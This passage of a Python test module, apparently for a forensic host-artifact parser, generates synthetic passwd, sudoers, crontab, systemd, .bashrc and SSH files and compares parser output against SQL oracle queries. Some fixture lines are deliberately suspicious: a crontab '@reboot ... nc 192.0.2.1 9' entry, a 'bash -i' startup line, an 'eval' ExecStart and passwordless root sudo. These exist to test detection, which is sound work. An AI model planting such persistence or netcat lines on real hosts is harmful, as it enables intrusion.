    return read_table(spark, sf_dir, "customer").withColumn("user_id", F.col("c_custkey")).withColumn(
        "name", F.concat(F.lit("c"), F.col("c_custkey").cast("string")))


def account_lines(spark, sf_dir) -> DataFrame:
    """passwd, its backup, shadow and group files of eight hosts, one line per customer."""
    people, k = _people(spark, sf_dir), F.col("c_custkey")
    entry = _text(F.col("name"), ":x:", F.when(k % 50 == 0, F.lit(0)).otherwise(k).cast("string"), ":5::/home/", F.col("name"), ":/bin/sh")
    secret = F.when(k % 3 == 0, "").when(k % 3 == 1, "!").otherwise("$6$hash")
    parts = [
        lines_from(people.filter(k % 5 != 1), "etc/passwd", entry, "c_custkey"),
        lines_from(people.filter(k % 5 != 2), "etc/passwd-", entry, "c_custkey"),
        lines_from(people, "etc/shadow", _text(F.col("name"), ":", secret, ":19000:0:::"), "c_custkey"),
        lines_from(people, "etc/group", _text("g", k.cast("string"), ":x:5:", F.col("name"), F.when(k % 2 == 0, ",extra").otherwise("")), "c_custkey"),
        lines_from(people, "etc/group-", _text("g", k.cast("string"), ":x:5:", F.col("name"), F.when(k % 3 == 0, ",former").otherwise("")), "c_custkey")]
    union = parts[0]
    for part in parts[1:]:
        union = union.unionByName(part)
    return union


_CHANGES = ("account_added_since_backup", "account_removed_since_backup", "group_member_added_since_backup",
            "group_member_removed_since_backup")


def _accounts(spark, sf_dir) -> DataFrame:
    return REGISTRY["passwd_parser"].extract(account_lines(spark, sf_dir), hosts_of(spark, sf_dir))


@query("xtr_16_accounts", """WITH c AS (SELECT *, 'c' || CAST(c_custkey AS VARCHAR) AS n FROM customer)
SELECT n AS actor_user, 'account' AS subcategory, CASE WHEN c_custkey % 50 = 0 THEN 0 ELSE c_custkey END AS actor_uid FROM c WHERE c_custkey % 5 <> 1
UNION ALL SELECT n, 'uid0_account', 0 FROM c WHERE c_custkey % 50 = 0
UNION ALL SELECT n, 'passwordless_account', NULL FROM c WHERE c_custkey % 3 = 0
UNION ALL SELECT n, 'locked_account', NULL FROM c WHERE c_custkey % 3 = 1
UNION ALL SELECT n, 'password_state', NULL FROM c
UNION ALL SELECT n, 'group_membership', NULL FROM c
UNION ALL SELECT 'extra', 'group_membership', NULL FROM c WHERE c_custkey % 2 = 0""")
def _account_states(spark, sf_dir):
    return _accounts(spark, sf_dir).filter(~F.col("subcategory").isin(*_CHANGES)).select(
        "actor_user", "subcategory", "actor_uid")


@query("xtr_17_account_changes", """WITH c AS (SELECT *, 'c' || CAST(c_custkey AS VARCHAR) AS n FROM customer)
SELECT n AS actor_user, 'account_removed_since_backup' AS subcategory, 'medium' AS severity FROM c WHERE c_custkey % 5 = 1
UNION ALL SELECT n, 'account_added_since_backup', 'medium' FROM c WHERE c_custkey % 5 = 2
UNION ALL SELECT 'extra', 'group_member_added_since_backup', 'low' FROM c WHERE c_custkey % 2 = 0
UNION ALL SELECT 'former', 'group_member_removed_since_backup', 'low' FROM c WHERE c_custkey % 3 = 0""")
def _account_changes(spark, sf_dir):
    return _accounts(spark, sf_dir).filter(F.col("subcategory").isin(*_CHANGES)).select(
        "actor_user", "subcategory", "severity")


def sudo_lines(spark, sf_dir) -> DataFrame:
    """A rule per customer, every second one continued on a second line."""
    k, name = F.col("c_custkey"), F.col("name")
    head = _text(name, " ALL=(root) ", F.when(k % 3 == 0, "NOPASSWD: ").otherwise(""), F.when(k % 4 == 0, "ALL").otherwise("/bin/ls"))
    parts = F.array(F.when(k % 2 == 0, _text(head, ", \\")).otherwise(head), F.when(k % 2 == 0, F.lit("  /bin/cat")))
    rows = _people(spark, sf_dir).select("c_custkey", "user_id", F.posexplode(parts).alias("part", "line"))
    rows = rows.filter(F.col("line").isNotNull()).withColumn("n", F.col("c_custkey") * 2 + F.col("part"))
    return lines_from(rows, "etc/sudoers", F.col("line"), "n")


@query("xtr_18_sudoers", """SELECT c_custkey * 2000 AS raw_line_offset, 'c' || CAST(c_custkey AS VARCHAR) AS actor_user,
    CASE WHEN c_custkey % 3 = 0 THEN 'passwordless_sudo' ELSE 'sudo_privilege' END AS subcategory,
    CASE WHEN c_custkey % 12 = 0 THEN 'high' WHEN c_custkey % 3 = 0 OR c_custkey % 4 = 0 THEN 'medium' ELSE 'info' END AS severity
FROM customer""")
def _sudoers(spark, sf_dir):
    out = REGISTRY["sudoers_parser"].extract(sudo_lines(spark, sf_dir), hosts_of(spark, sf_dir))
    return out.select("raw_line_offset", "actor_user", "subcategory", "severity")


@query("src_9_logical_lines", """SELECT 'host-' || CAST(c_custkey % 8 AS VARCHAR) AS host_id, c_custkey * 2000 AS byte_offset,
    'c' || CAST(c_custkey AS VARCHAR) || ' ALL=(root) ' || CASE WHEN c_custkey % 3 = 0 THEN 'NOPASSWD: ' ELSE '' END ||
    CASE WHEN c_custkey % 4 = 0 THEN 'ALL' ELSE '/bin/ls' END || CASE WHEN c_custkey % 2 = 0 THEN ', /bin/cat' ELSE '' END AS line
FROM customer""")
def _logical(spark, sf_dir):
    from fleetlens.extract.base import with_hosts
    from fleetlens.extract.configuration import logical_lines
    return logical_lines(with_hosts(sudo_lines(spark, sf_dir), hosts_of(spark, sf_dir))).select(
        "host_id", "byte_offset", "line")


def _config(name: str, job: str, path: Column | str, line, sql: str, *columns: str):
    """Register a job over one line per customer."""
    def run(spark, sf_dir):
        lines = lines_from(_people(spark, sf_dir), path() if callable(path) else path, line(), "c_custkey")
        return REGISTRY[job].extract(lines, hosts_of(spark, sf_dir)).select(*columns)
    query(name, sql)(run)


_k = lambda: F.col("c_custkey")
_name = lambda: F.col("name")
_OFFSET = "c_custkey * 1000 AS raw_line_offset"
_N = "'c' || CAST(c_custkey AS VARCHAR)"
_config("xtr_19_crontabs", "cron_parser", "etc/crontab",
        lambda: F.when(_k() % 4 == 0, _text("PATH", _k().cast("string"), "=/bin"))
        .when(_k() % 4 == 1, _text("5 4 * * sun ", _name(), " /usr/bin/true"))
        .when(_k() % 4 == 2, _text("@reboot ", _name(), " nc 192.0.2.1 9")).otherwise("no job here"),
        f"""SELECT c_custkey * 1000 + CASE WHEN c_custkey % 4 = 2 THEN 9 + length({_N}) ELSE 0 END AS raw_line_offset,
    CASE WHEN c_custkey % 4 > 0 THEN {_N} END AS actor_user, CASE c_custkey % 4 WHEN 0 THEN 'cron_env' WHEN 1 THEN 'cron_job'
    ELSE 'suspicious_cron_job' END AS subcategory FROM customer WHERE c_custkey % 4 < 3""",
        "raw_line_offset", "actor_user", "subcategory")


@query("xtr_20_systemd_units", f"""SELECT {_N} || '.service' AS unit, 'systemd_unit' AS subcategory, {_N} AS actor_user,
    'systemd service unit etc/systemd/system/' || {_N} || '.service runs as ' || {_N} || ': User=' || {_N} || ' ExecStart=' ||
    CASE WHEN c_custkey % 2 = 0 THEN '/bin/true' ELSE 'eval x' END || ' (file mtime 2024-02-01T00:00:00+00:00)' AS description FROM customer
UNION ALL SELECT {_N} || '.service', 'suspicious_systemd_unit', {_N}, 'Suspicious ExecStart in service unit etc/systemd/system/' || {_N} ||
    '.service (runs as ' || {_N} || '): eval x -- evaluates a built string (file mtime 2024-02-01T00:00:00+00:00)'
FROM customer WHERE c_custkey % 2 = 1""")
def _units(spark, sf_dir):
    parts = F.array(F.lit("[Service]"), _text("ExecStart=", F.when(_k() % 2 == 0, "/bin/true").otherwise("eval x")),
                    _text("User=", _name()))
    rows = _people(spark, sf_dir).select("c_custkey", "user_id", "name", F.posexplode(parts).alias("part", "line"))
    lines = lines_from(rows.withColumn("n", _k() * 3 + F.col("part")),
                       _text("etc/systemd/system/", _name(), ".service"), F.col("line"), "n")
    out = REGISTRY["systemd_unit_parser"].extract(lines, hosts_of(spark, sf_dir))
    return out.select(F.element_at(F.split("source_artifact_path", "/"), -1).alias("unit"), "subcategory", "actor_user",
                      "description")


_config("xtr_21_sshd_settings", "sshd_config_parser", "etc/ssh/sshd_config",
        lambda: F.when(_k() % 3 == 0, "PermitRootLogin yes").when(_k() % 3 == 1, "PasswordAuthentication=yes # x")
        .otherwise("PermitRootLogin no"),
        f"SELECT {_OFFSET}, CASE c_custkey % 3 WHEN 0 THEN 'high' ELSE 'medium' END AS severity FROM customer WHERE c_custkey % 3 < 2",
        "raw_line_offset", "severity")
_config("xtr_22_preload", "ld_preload_parser", "etc/ld.so.preload",
        lambda: F.when(_k() % 2 == 0, _text("# ", _name())).otherwise(_text(" /lib/", _name(), ".so")),
        f"SELECT {_OFFSET}, '/lib/' || {_N} || '.so' AS raw_line FROM customer WHERE c_custkey % 2 = 1",
        "raw_line_offset", "raw_line")
_config("xtr_22_startup", "startup_script_parser", lambda: _text("home/", _name(), "/.bashrc"),
        lambda: F.when(_k() % 3 == 0, _text("bash -i ", _name())).otherwise("alias l=ls"),
        f"SELECT {_OFFSET}, 'suspicious_startup_line' AS subcategory FROM customer WHERE c_custkey % 3 = 0",
        "raw_line_offset", "subcategory")


@query("xtr_23_authorized_keys", f"""SELECT {_OFFSET}, {_N} AS actor_user, CASE WHEN c_custkey % 2 = 0 THEN 'medium' ELSE 'info' END AS severity,
    'SHA256:' || rtrim(base64(from_hex(sha256({_N}))), '=') AS fingerprint FROM customer""")
def _keys(spark, sf_dir):
    key = F.regexp_replace(F.base64(F.encode("name", "UTF-8")), r"\s", "")
    lines = lines_from(_people(spark, sf_dir), _text("home/", _name(), "/.ssh/authorized_keys"), _text(
        F.when(_k() % 2 == 0, 'command="run it" ').otherwise(""), "ssh-rsa ", key, " me"), "c_custkey")
    out = REGISTRY["authkeys_parser"].extract(lines, hosts_of(spark, sf_dir))
    return out.select("raw_line_offset", "actor_user", "severity",
                      F.regexp_extract("description", r"fingerprint (\S+)", 1).alias("fingerprint"))


_config("xtr_24_known_hosts", "knownhosts_parser", lambda: _text("home/", _name(), "/.ssh/known_hosts"),
        lambda: F.when(_k() % 3 == 0, "|1|a|b ssh-rsa AAAA").when(_k() % 3 == 1, _text("[192.0.2.1]:", _k().cast("string"), ",x ssh-rsa AAAA"))
        .otherwise(_text("gw", _k().cast("string"), " ssh-rsa AAAA")),
        f"""SELECT {_OFFSET}, CASE WHEN c_custkey % 3 = 0 THEN 'known_host_hashed' ELSE 'known_host' END AS subcategory,
    CASE WHEN c_custkey % 3 = 1 THEN '192.0.2.1' END AS source_ip, CASE WHEN c_custkey % 3 = 2 THEN 'gw' || CAST(c_custkey AS VARCHAR) END
    AS source_host FROM customer""", "raw_line_offset", "subcategory", "source_ip", "source_host")
_config("xtr_25_sockets", "netstat_parser", "volatile/ss.txt",
        lambda: F.when(_k() % 2 == 0, _text("tcp ESTAB 0 0 10.0.0.1:22 192.0.2.", (_k() % 200).cast("string"), ':50 users:(("sshd",pid=1))'))
        .otherwise("udp UNCONN 0 0 0.0.0.0:68 0.0.0.0:*"),
        f"""SELECT {_OFFSET}, CASE WHEN c_custkey % 2 = 0 THEN 'established' ELSE 'unconn' END AS subcategory,
    CASE WHEN c_custkey % 2 = 0 THEN '192.0.2.' || CAST(c_custkey % 200 AS VARCHAR) END AS source_ip,
    CASE WHEN c_custkey % 2 = 0 THEN 'medium' ELSE 'info' END AS severity FROM customer""",
        "raw_line_offset", "subcategory", "source_ip", "severity")
_config("xtr_26_resolver", "dns_parser", lambda: F.when(_k() % 2 == 0, "etc/resolv.conf").otherwise("etc/hosts"),
        lambda: F.when(_k() % 2 == 0, _text("nameserver 192.0.2.", (_k() % 200).cast("string"))).otherwise(
            _text("192.0.2.9\t", _name(), "  alias # note")),
        f"""SELECT {_OFFSET}, CASE WHEN c_custkey % 2 = 0 THEN 'dns_nameserver' ELSE 'dns_mapping' END AS subcategory,
    CASE WHEN c_custkey % 2 = 0 THEN '192.0.2.' || CAST(c_custkey % 200 AS VARCHAR) ELSE '192.0.2.9' END AS source_ip,
    CASE WHEN c_custkey % 2 = 1 THEN {_N} END AS source_host FROM customer""",
        "raw_line_offset", "subcategory", "source_ip", "source_host")
_config("xtr_27_storage", "storage_parser", lambda: F.when(_k() % 2 == 0, "etc/fstab").otherwise("volatile/mount.txt"),
        lambda: F.when(_k() % 2 == 0, _text("UUID=", _name(), " /mnt ext4")).otherwise(
            _text("/dev/", _name(), " on /m type xfs (rw)")),
        f"""SELECT {_OFFSET}, CASE WHEN c_custkey % 2 = 0 THEN 'storage_device' ELSE 'filesystem_mount' END AS subcategory,
    CASE WHEN c_custkey % 2 = 0 THEN 'Static mount /mnt on UUID=' || {_N} || ' (type: ext4, options: defaults)'
    ELSE 'Active filesystem mount: /dev/' || {_N} || ' on /m (type xfs, rw)' END AS description FROM customer""",
        "raw_line_offset", "subcategory", "description")


@query("xtr_28_interfaces", f"""SELECT c_custkey * 3000 AS raw_line_offset, '10.0.0.' || CAST(c_custkey % 200 AS VARCHAR) AS source_ip,
    'Network interface ' || {_N} || ' (state: UP, MAC: 02:42:ac:11:00:02, addresses: 10.0.0.' || CAST(c_custkey % 200 AS VARCHAR)
    || '/24)' AS description FROM customer""")
def _interfaces(spark, sf_dir):
    parts = F.array(_text("2: ", _name(), ": <UP> mtu 1 state UP"), F.lit("    link/ether 02:42:ac:11:00:02 brd x"),
                    _text("    inet 10.0.0.", (_k() % 200).cast("string"), "/24 y"))
    rows = _people(spark, sf_dir).select("c_custkey", "user_id", F.posexplode(parts).alias("part", "line"))
    lines = lines_from(rows.withColumn("n", _k() * 3 + F.col("part")), "volatile/ip_addr.txt", F.col("line"), "n")
    out = REGISTRY["netifaces_parser"].extract(lines, hosts_of(spark, sf_dir))
    return out.select("raw_line_offset", "source_ip", "description")


@query("xtr_29_identity", f"""SELECT {_N} AS host_id, CASE WHEN c_custkey % 2 = 0 THEN 'os_identity' ELSE 'machine_id' END AS subcategory,
    CASE WHEN c_custkey % 2 = 0 THEN 'Operating system: OS ' || c_name ELSE 'Machine id: ' || {_N} END AS description FROM customer""")
def _identity(spark, sf_dir):
    even = _k() % 2 == 0
    parts = F.when(even, F.array(F.lit("ID=os"), _text('PRETTY_NAME="OS ', F.col("c_name"), '"'))).otherwise(
        F.array(F.lit(""), _name()))
    rows = _people(spark, sf_dir).select("c_custkey", "name", F.posexplode(parts).alias("part", "line"))
    lines = lines_from(rows.withColumn("n", F.col("part").cast("long")), F.when(
        even, "etc/os-release").otherwise("etc/machine-id"), F.col("line"), "n", host=_name())
    out = REGISTRY["env_parser"].extract(lines, hosts_of(spark, sf_dir))
    return out.select("host_id", "subcategory", "description")


# --------------------------------------------------------------- routing

_PATHS = ("var/log/auth.log", "var/log/syslog.2.gz", "home/a/.bash_history", "opt/app/data.bin", "etc/passwd")


def _collected(spark, sf_dir):
    path = F.element_at(F.array(*map(F.lit, _PATHS)), (_k() % 5 + 1).cast("int"))
    return _people(spark, sf_dir).select(_name().alias("host_id"), path.alias("artifact_path"), "c_custkey")


_PATH_SQL = "[" + ", ".join(f"'{p}'" for p in _PATHS) + "][CAST(c_custkey % 5 + 1 AS INTEGER)]"


@query("src_2_routing", f"""WITH c AS (SELECT {_N} AS host_id, {_PATH_SQL} AS artifact_path FROM customer)
SELECT c.*, p.parser_name FROM c LEFT JOIN (VALUES ('var/log/auth.log', 'authlog_parser'), ('var/log/syslog.2.gz', 'cronlog_parser'),
    ('var/log/syslog.2.gz', 'usb_parser'), ('home/a/.bash_history', 'shellhist_parser'), ('etc/passwd', 'passwd_parser'))
    p(path, parser_name) ON p.path = c.artifact_path""")
def _routing(spark, sf_dir):
    from fleetlens.extract.status import claims
    return claims(_collected(spark, sf_dir))


@query("xtr_32_artifact_status", f"""SELECT {_N} AS host_id, {_PATH_SQL} AS artifact_path,
    CASE WHEN c_custkey % 5 = 3 THEN 'skip' WHEN c_custkey % 5 = 4 THEN 'fail' ELSE 'success' END AS parse_status FROM customer""")
def _status(spark, sf_dir):
    artifacts = _collected(spark, sf_dir)
    events = artifacts.select("host_id", F.col("artifact_path").alias("source_artifact_path"))
    failures = artifacts.filter(F.col("artifact_path") == "etc/passwd")
    return artifact_status(artifacts, events, failures).select("host_id", "artifact_path", "parse_status")


@query("int_4_parser_stats", """WITH n AS (SELECT c_custkey % 5 AS p, count(*) AS n FROM customer GROUP BY 1)
SELECT parser_name, CASE WHEN p = 4 THEN 0 ELSE n END AS success, CASE WHEN p = 4 THEN n ELSE 0 END AS fail,
    CASE WHEN parser_name = 'authlog_parser' THEN n ELSE 0 END AS events
FROM n JOIN (VALUES (0, 'authlog_parser'), (1, 'cronlog_parser'), (1, 'usb_parser'), (2, 'shellhist_parser'), (4, 'passwd_parser'))
    v(q, parser_name) ON v.q = n.p""")
def _stats(spark, sf_dir):
    artifacts = _collected(spark, sf_dir)
    events = artifacts.filter(F.col("artifact_path") == "var/log/auth.log").select(F.lit("authlog_parser").alias("parser_name"))
    return parser_stats(artifacts, events, artifacts.filter(F.col("artifact_path") == "etc/passwd"))


# ------------------------------------------------------- all jobs at once, and files

#: Job and the query whose SQL says what its lines become.
ALL_JOBS = {"authlog_parser": "xtr_2_auth_log", "cronlog_parser": "xtr_3_cron_log", "journald_parser": "xtr_4_journal",
            "dpkg_parser": "xtr_11_dpkg_log", "apt_parser": "xtr_12_apt_history", "weblog_parser": "xtr_14_web_access",
            "sudoers_parser": "xtr_18_sudoers"}


def all_lines(spark, sf_dir) -> DataFrame:
    """Logs of several kinds in one table of lines."""
    parts = [make(spark, sf_dir) for make in (auth_lines, cron_lines, journal_lines, dpkg_lines, apt_lines, web_lines, sudo_lines)]
    out = parts[0]
    for part in parts[1:]:
        out = out.unionByName(part)
    return out


@query("set_1_all_jobs", " UNION ALL ".join(
    f"SELECT '{job}' AS parser_name, count(*) AS events, sum(raw_line_offset)::DECIMAL(38, 0) AS offsets, min(raw_line_offset) AS first_offset "
    f"FROM ({ORACLES[name]})" for job, name in ALL_JOBS.items()))
def _all_jobs(spark, sf_dir):
    return extract_all(all_lines(spark, sf_dir), hosts_of(spark, sf_dir)).groupBy("parser_name").agg(
        F.count(F.lit(1)).alias("events"), F.sum(F.col("raw_line_offset").cast("decimal(28,0)")).alias("offsets"),
        F.min("raw_line_offset").alias("first_offset"))


def stored_files(spark, sf_dir) -> str:
    """The documents as one file per host and kind, in the order of their ids: plain, packed, and with a blank in the path.

    The text of every fifth document ends with a byte that is no UTF-8.
    """
    root = shared_folder(spark, "raw")
    k = F.col("doc_id")
    text = F.concat(F.coalesce("text", F.lit("")).cast("binary"), F.when(k % 5 == 0, F.unhex(F.lit("FF"))).otherwise(F.unhex(F.lit(""))))
    docs = read_table(spark, sf_dir, "documents").select(
        "doc_id", F.concat(F.lit("host-"), (k % 4).cast("string")).alias("folder"), text.cast("string").alias("value"))
    for n, (path, packed) in enumerate((("var/log/app.log", "none"), ("var/log/app packed", "gzip"))):
        own = docs.filter(F.floor(k / 4) % 2 == n)
        (own.repartition(4, "folder").sortWithinPartitions("folder", "doc_id").drop("doc_id").write.partitionBy("folder")
         .option("compression", packed).mode("overwrite").text(f"{root}/{path}"))
    return root


@query("src_1_lines", """WITH d AS (SELECT doc_id, doc_id % 4 AS host, (doc_id // 4) % 2 AS kind,
    encode(coalesce(text, '')) || CASE WHEN doc_id % 5 = 0 THEN '\\xFF'::BLOB ELSE ''::BLOB END AS body, coalesce(text, '') AS t FROM documents),
parts AS (SELECT doc_id, host, kind, unnest(string_split(t, chr(10))) AS part, generate_subscripts(string_split(t, chr(10)), 1) AS n,
    len(string_split(t, chr(10))) AS last FROM d),
lines AS (SELECT *, encode(part) || CASE WHEN n = last AND doc_id % 5 = 0 THEN '\\xFF'::BLOB ELSE ''::BLOB END AS raw FROM parts)
SELECT 'host-' || CAST(host AS VARCHAR) AS host_id, kind AS kind, row_number() OVER w AS line_no,
    CAST(sum(octet_length(raw) + 1) OVER w - octet_length(raw) - 1 AS BIGINT) AS byte_offset,
    md5(CASE WHEN n = last AND doc_id % 5 = 0 THEN raw ELSE encode(rtrim(part, chr(13))) END) AS digest,
    n = last AND doc_id % 5 = 0 AS had_decode_error FROM lines
WINDOW w AS (PARTITION BY host, kind ORDER BY doc_id, n)""")
def _file_lines(spark, sf_dir):
    root = stored_files(spark, sf_dir)
    # Short ranges, so that many lines reach over their borders.
    rows = read_lines(spark, f"{root}/*/*/*/folder=*/part-*", root, split_bytes=1 << 14)
    # root/<host>/ is what the reader expects; here folders are turned around.
    host = F.regexp_extract("artifact_path", "folder=([^/]*)/", 1)
    return rows.select(host.alias("host_id"), F.col("artifact_path").contains("app packed").cast("long").alias("kind"), "line_no", "byte_offset",
                       F.md5("line").alias("digest"), "had_decode_error")


@query("src_4_record_files", """SELECT (doc_id % 3) AS host, row_number() OVER (PARTITION BY doc_id % 3 ORDER BY doc_id) - 1 AS record_index, doc_id
FROM documents""")
def _record_files(spark, sf_dir):
    """Ids as records of 12 bytes in one file per host, read in ranges of a few records."""
    root = shared_folder(spark, "records")
    docs = read_table(spark, sf_dir, "documents").select(
        "doc_id", (F.col("doc_id") % 3).alias("folder"), F.lpad(F.col("doc_id").cast("string"), 11, "0").alias("value"))
    docs.repartition(3, "folder").sortWithinPartitions("folder", "doc_id").drop("doc_id").write.partitionBy("folder").text(f"{root}/h/var")
    rows = read_records(spark, f"{root}/*/*/folder=*/part-*", root, 12, split_bytes=1000)
    return rows.select(F.regexp_extract("artifact_path", "folder=([0-9]*)/", 1).cast("long").alias("host"), "record_index",
                       F.rtrim(F.col("record").cast("string"), F.lit("\n")).cast("long").alias("doc_id"))
